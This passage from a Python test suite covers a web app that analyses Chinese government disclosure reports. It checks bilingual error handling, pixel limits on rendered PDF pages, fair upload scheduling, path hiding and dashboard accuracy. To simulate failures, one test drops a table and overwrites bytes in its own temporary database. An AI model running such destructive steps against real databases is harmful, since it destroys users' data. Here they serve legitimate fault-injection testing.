    ingest(work.store, [str(SAMPLES)])
    work.add_user("admin", PASSWORD, role="admin")
    report_id = work.store.report_ids()[0]
    with TestClient(app) as client:
        sign_in(client, "admin")
        raw = sqlite3.connect(db)
        raw.execute("DROP TABLE audit")
        raw.commit()
        raw.close()
        for url in (f"/api/reports/{report_id}/audit", f"/reports/{report_id}"):
            answer = client.get(url)
            assert answer.status_code == 503, url
            assert "数据库" in answer.text and "database" in answer.text
            assert not re.search(r"SELECT|FROM|audit\.|sqlite|Traceback", answer.text, re.IGNORECASE)
    work.store.close()  # every connection closed: the write-ahead log is back in the file

    size, page = db.stat().st_size, 4096
    with db.open("r+b") as handle:  # damage in the second half of the file (every page's head), the header intact
        for offset in range(size // 2 // page * page, size, page):
            handle.seek(offset)
            handle.write(b"\xde\xad" * 16)
    with pytest.raises(DatabaseDamaged) as damaged:
        create_app(f"sqlite:///{db}", upload_dir=tmp_path / "up2")
    assert "损坏" in damaged.value.message and "damaged" in damaged.value.message_en


def test_a_page_image_is_bounded_in_pixels(tmp_path: Path) -> None:
    import pypdfium2
    from PIL import Image

    from gknb.web.sources import MAX_PIXELS, MAX_SIDE, page_png

    pdf = pypdfium2.PdfDocument.new()
    pdf.new_page(14400, 14400)  # the largest page PDF allows: 21 600 px square at the display scale
    pdf.new_page(14400, 300)
    out = io.BytesIO()
    pdf.save(out)
    for page in (1, 2):
        image = Image.open(io.BytesIO(page_png(out.getvalue(), page)))
        assert image.width * image.height <= MAX_PIXELS and max(image.size) <= MAX_SIDE
    scan = io.BytesIO()
    Image.new("L", (12000, 9000), 255).save(scan, format="PNG")  # a 108-megapixel scan is not decoded
    assert page_png(scan.getvalue(), 1) is None


def test_the_upload_feed_takes_users_in_turn() -> None:
    """Two large scans of one user queued first do not hold back another user's small file: the feed
    takes one input per user in turn, also of inputs added while it is being drawn."""
    from gknb.pipeline.bulk import Item
    from gknb.web.uploads import FairFeed

    feed = FairFeed()
    feed.add("busy", [Item("scan-1.pdf"), Item("scan-2.pdf"), Item("scan-3.pdf")])
    drawn = [next(feed).location]
    feed.add("other", [Item("small.txt")])
    drawn += [item.location for item in feed]
    assert drawn == ["scan-1.pdf", "small.txt", "scan-2.pdf", "scan-3.pdf"]
    assert len(feed) == 0


# -- names of sources, charts against the store (a report with no title, agency, region or level) --

def _upload_untitled(client: TestClient, csrf: str) -> int:
    """``pages.zip › 034.txt``: a report whose title line is gone (no agency, region or level)."""
    fmt = FORMATS["2021"]
    rnd = random.Random(34)
    text = render(fmt, random_report(fmt, rnd), "tab", rnd, year=2023, agency="某某").split("\n", 1)[1]
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("034.txt", text.replace("某某", ""))
    sent = client.post("/api/uploads", files=[("files", ("pages.zip", archive.getvalue(), "application/zip"))],
                       headers={"X-CSRF-Token": csrf}).json()
    member = wait_done(client, sent["id"])["files"][0]["members"][0]
    assert member["status"] == "stored", member
    return member["report_id"]


def test_sources_are_named_as_a_person_names_them(workspace) -> None:
    client, ctx = workspace
    report_id = _upload_untitled(client, sign_in(client, "admin"))
    stored = client.get(f"/api/reports/{report_id}").json()
    assert stored["meta"]["agency"] is None and stored["meta"]["title"] is None
    assert str(ctx["folder"]) in stored["source"]["path"]  # the store keeps where it came from …
    items = {i["id"]: i for i in client.get("/api/reports", params={"per_page": 500}).json()["items"]}
    assert items[report_id]["location"] == "pages.zip › 034.txt"  # … the user sees the file's name
    assert all("uploads" not in i["location"] and not i["location"].startswith("/") for i in items.values())
    page = client.get("/").text
    assert "未识别机关" in page and "pages.zip › 034.txt" in page and str(ctx["folder"]) not in page
    assert "pages.zip › 034.txt" in client.get(f"/reports/{report_id}").text
    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv").content.decode("utf-8-sig"))))
    assert {r["location"] for r in rows if r["report_id"] == str(report_id)} == {"pages.zip › 034.txt"}
    assert not any(str(ctx["folder"]) in r["location"] for r in rows)
    book = load_workbook(io.BytesIO(client.get("/api/export.xlsx").content))
    header, keys, *data = book["报告"].iter_rows(values_only=True)
    shown = {row[0]: row[header.index("来源")] for row in data}
    assert shown[report_id] == "pages.zip › 034.txt"


def _expected_charts(work, ids: list[int]) -> dict[str, list]:
    """The dashboard's numbers summed report by report from the stored reports themselves."""
    from gknb.analyze.stats import request_outcomes

    def total(cells: dict, *keys: str) -> int:
        return sum(cells.get(k) or 0 for k in keys)

    years: dict = {}
    outcomes = dict.fromkeys(request_outcomes(), 0)
    agencies: dict = {}
    regions: dict = {}
    levels: dict = {}
    for report_id in ids:
        report = work.store.load(report_id)
        cells, meta = report.cells, report.meta
        year = years.setdefault(meta.year or "未识别", [0, 0, 0, 0])
        for i, keys in enumerate((("requests.new.total",), ("requests.total.total",), ("review.review.total",),
                                  ("review.litigation_direct.total", "review.litigation_after_review.total"))):
            year[i] += total(cells, *keys)
        for name, (_, rows) in request_outcomes().items():
            outcomes[name] += total(cells, *(f"requests.{r}.total" for r in rows))
        agency = meta.agency or "未识别机关"
        agencies[agency] = agencies.get(agency, 0) + total(cells, "requests.new.total")
        bad = any(f.severity == "error" for f in report.findings)
        for groups, key in ((regions, meta.region["province"]), (levels, meta.level)):
            count = groups.setdefault(key or "未识别", [0, 0])
            count[0] += 1
            count[1] += bad
    return {"years": years, "outcomes": list(outcomes.values()), "agencies": agencies, "regions": regions,
            "levels": levels}


def test_every_chart_matches_the_store_with_unknowns_in_their_own_bucket(workspace) -> None:
    client, ctx = workspace
    csrf = sign_in(client, "admin")
    work = ctx["work"]
    if not any(i["agency"] is None for i in client.get("/api/reports", params={"per_page": 500}).json()["items"]):
        _upload_untitled(client, csrf)
    ids = [i["id"] for i in client.get("/api/reports", params={"per_page": 500}).json()["items"]]
    expected = _expected_charts(work, ids)
    charts = client.get("/api/dashboard").json()
    assert {row[0]: row[1:] for row in charts["by_year"]["rows"]} == expected["years"]
    assert [row[1] for row in charts["outcomes"]["rows"]] == expected["outcomes"]
    top = sorted(((n, a) for a, n in expected["agencies"].items() if n), key=lambda x: (-x[0], x[1]))[:10]
    assert {row[0]: row[1] for row in charts["agencies"]["rows"]} == {a: n for n, a in top}
    assert "未识别机关" in {row[0] for row in charts["agencies"]["rows"]}
    for chart, groups in (("regions", expected["regions"]), ("levels", expected["levels"])):
        shown = {row[0]: row[1:] for row in charts[chart]["rows"]}
        assert shown == {k: [n, bad, round(bad / n, 4)] for k, (n, bad) in groups.items()}, chart
        assert "未识别" in shown
    assert not any(chart["empty"] for chart in charts.values())
    nothing = client.get("/api/dashboard", params={"year": 1999}).json()  # no report: nothing drawn as 0 %
    assert [row[1] for row in nothing["outcomes"]["rows"]] == [0] * 6
    assert all(chart["empty"] for chart in nothing.values())


def test_errors_speak_chinese_first(workspace) -> None:
    client, ctx = workspace
    sign_in(client, "admin")
    for path, status in (("/api/no-such-thing", 404), ("/api/reports/1", 405)):
        answer = client.request("DELETE" if status == 405 else "GET", path)
        assert answer.status_code == status
        body = detail(answer)
        assert body["message"] != body["message_en"] and not body["message"].isascii(), body
    page = client.get("/no-such-page")
    assert page.status_code == 404 and "没有这个页面或资源" in page.text and "Not Found" not in page.text
    report_id, key = next((i, f["cells"][0]) for i in ctx["ids"].values()
                          for f in client.get(f"/api/reports/{i}").json()["findings"] if f["cells"])
    text = client.get(f"/reports/{report_id}").text
    findings = text.split('id="findings"', 1)[1].split("</ul>", 1)[0]
    assert f'<span class="mono cell-ref">{key}</span>' in findings  # the keys are there for those who want them …
    for item in findings.split("<li")[1:]:  # … behind a 详情 toggle, after the message
        before, _, inside = item.split(">", 1)[1].partition('<details class="internals"><summary>详情</summary>')
        assert inside and "mono rule" not in before and "requests." not in before, item  # shown: no codes
